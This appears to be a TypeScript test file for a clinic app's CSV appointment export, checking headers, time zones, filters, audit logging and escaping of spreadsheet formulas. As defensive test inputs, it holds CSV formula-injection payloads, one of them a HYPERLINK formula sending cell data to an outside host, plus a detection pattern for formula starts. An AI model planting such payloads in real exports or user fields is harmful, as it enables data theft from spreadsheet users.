import assert from 'node:assert/strict'
import { beforeEach, suite, test } from 'node:test'
import { alicesClinic, bobsClinic, openStage } from '../../cast.ts'
import { accepted, refused } from './answers.ts'
import { cellsOf } from './csv-cells.ts'

const stage = await openStage()
const [alice, bob] = await Promise.all([alicesClinic(stage), bobsClinic(stage)])

const exported = async (query = '', owner = alice) => {
  const answer = await owner.as('GET', `/api/appointments.csv${query}`)
  const [head, ...rows] = cellsOf(accepted(answer).replace(/^\uFEFF/, ''))
  return rows.map((row) => Object.fromEntries(head!.map((name, n) => [name, row[n]])))
}
const desk = async (start: string, end: string, more: object = {}, owner = alice): Promise<string> =>
  accepted(await owner.as('POST', '/api/appointments', { start_time: start, end_time: end, ...more }), 201).id
const atNoon = ['2026-12-15T12:00:00-05:00', '2026-12-15T12:30:00-05:00'] as const

beforeEach(async () => {
  await stage.sql.query('delete from audit; delete from appointments')
})

suite('the file of appointments', () => {
  test('is for a spreadsheet: with a byte order mark, to be saved, and for no cache', async () => {
    const response = await fetch(`${stage.url}/api/appointments.csv`, {
      headers: { authorization: `Bearer ${alice.bearer}` },
    })
    assert.deepEqual(
      ['content-type', 'content-disposition', 'cache-control'].map((name) => response.headers.get(name)),
      ['text/csv; charset=utf-8', 'attachment; filename="appointments-2026-12-07.csv"', 'no-store'],
    )
    const bytes = Buffer.from(await response.arrayBuffer())
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
    assert.ok(bytes.toString().endsWith('\r\n'), 'the head is there, though nothing is booked')
  })

  test('has dates and times of the clinic’s wall clock, and the zone', async () => {
    const id = await desk('2026-12-15T23:30:00-05:00', '2026-12-16T00:30:00-05:00', {
      attendee_name: 'María López',
      notes: 'Says "hi",\nthen waits',
    })
    const [{ created_at, ...row }] = (await exported()) as [Record<string, string>]
    assert.equal(created_at, '2026-12-07T07:00:00-05:00')
    assert.deepEqual(row, {
      date: '2026-12-15',
      start_time: '23:30',
      end_date: '2026-12-16',
      end_time: '00:30',
      timezone: 'America/New_York',
      status: 'scheduled',
      title: '',
      attendee_name: 'María López',
      attendee_phone: '',
      attendee_email: '',
      practitioner: 'Practitioner',
      service: '',
      notes: 'Says "hi",\nthen waits',
      agent_id: '',
      id,
    })
  })

  test('has what is asked for, in order, and neither holds nor what is Bob’s', async () => {
    const late = await desk('2026-12-16T12:00:00-05:00', '2026-12-16T12:30:00-05:00')
    const early = await desk(...atNoon)
    await desk(...atNoon, {}, bob)
    accepted(await alice.agent('hold-slot', { date: '2026-12-15', start_time: '15:00' }))
    accepted(await alice.as('POST', `/api/appointments/${late}/cancel`))
    const ids = async (query: string) => (await exported(query)).map(({ id }) => id)
    assert.deepEqual(await ids(''), [early, late])
    assert.deepEqual(await ids('?to=2026-12-16'), [early])
    assert.deepEqual(await ids('?from=2026-12-16&to=2026-12-17'), [late])
    assert.deepEqual(await ids('?status=cancelled'), [late])
  })

  test('has all of them, each once, however many they are', async () => {
    // four at a time, so that a part ends between two that begin together
    await stage.sql.query(
      `insert into appointments (user_id, start_time, end_time, status)
       select $1, at, at + interval '5 minutes', 'completed'
       from generate_series('2025-01-01T00:00:00Z'::timestamptz, '2025-01-05T04:50:00Z', interval '10 minutes') at, generate_series(1, 4)`,
      [alice.userId],
    )
    const rows = await exported()
    assert.equal(rows.length, 606 * 4)
    assert.equal(new Set(rows.map(({ id }) => id)).size, 606 * 4)
    const times = rows.map(({ date, start_time }) => `${date} ${start_time}`)
    assert.deepEqual(times, times.toSorted())
  })

  test('is written down, with who took it away', async () => {
    await exported('?from=2026-12-01')
    const [{ action, outcome, user_id }] = accepted(await alice.as('GET', '/api/audit')).entries
    assert.deepEqual([action, outcome, user_id], ['export_appointments', 'done', alice.userId])
  })

  for (const query of ['from=yesterday', 'to=2026-02-30', 'status=held'])
    test(`is refused for ${query}`, async () => {
      refused(await alice.as('GET', `/api/appointments.csv?${query}`), 422, 'invalid_fields', query.split('=')[0]!)
    })
})

suite('a formula in the file', () => {
  // What a spreadsheet would begin to calculate: at the start of a cell, behind what it trims, behind a semicolon, with
  // which a comma's file is parted in half of Europe, and at the start of a line.
  const formula = /(?:^|[;\t\r\n])[\s\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u

  for (const name of [
    '=HYPERLINK("http://example.com/?" & A1, "Maria")',
    '+1+2',
    '-2+3',
    '@SUM(1,2)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    'Maria;=1+1',
    '"=1+1"',
    '";=1+1;"',
  ])
    test(`is only text as a name: ${name}`, async () => {
      await desk(...atNoon, { attendee_name: name })
      const [row] = await exported()
      assert.doesNotMatch(row!.attendee_name!, formula)
      assert.equal(row!.attendee_name!.replaceAll("'", ''), name.replaceAll("'", ''))
    })

  for (const notes of [
    '\t=1+1',
    'See below\n=1+1',
    'See below\n \t@SUM(1)',
    'x\r\n-1',
    '\u200B=1',
    '\u00A0=1',
    ' =1',
    'x;\u00A0=1',
  ])
    test(`is only text in what somebody else’s SQL wrote: ${JSON.stringify(notes)}`, async () => {
      const id = await desk(...atNoon)
      await stage.sql.query('update appointments set notes = $1, title = $1, attendee_name = $1 where id = $2', [
        notes,
        id,
      ])
      const [row] = await exported()
      for (const cell of [row!.notes, row!.title, row!.attendee_name]) assert.doesNotMatch(cell!, formula)
    })

  test('is none in a phone, which stays text with all its digits', async () => {
    await desk(...atNoon, { attendee_phone: '+12125550123' })
    assert.equal((await exported())[0]!.attendee_phone, "'+12125550123")
  })

  test('is not seen where there is none', async () => {
    const plain = {
      attendee_name: 'Anne-Marie O’Neill; née =',
      attendee_email: 'anne+desk@example.com',
      notes: '1 + 1 = 2',
    }
    await desk(...atNoon, plain)
    const [row] = await exported()
    assert.deepEqual([row!.attendee_name, row!.attendee_email, row!.notes], Object.values(plain))
  })
})
